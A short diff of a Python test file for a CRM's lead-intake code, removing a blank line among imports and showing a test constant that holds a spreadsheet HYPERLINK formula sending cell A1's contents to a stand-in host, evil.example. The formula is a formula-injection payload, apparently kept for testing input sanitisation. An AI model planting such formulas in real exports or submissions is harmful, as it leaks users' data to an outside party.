@@ -20,7 +20,6 @@ from crm.intake import LeadData, create_lead
 from crm.models import Lead, Source
 from crm.services import assign
 from forms_builder.models import LeadFormSubmission
-
 from tests.forms_support import make_form_page
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
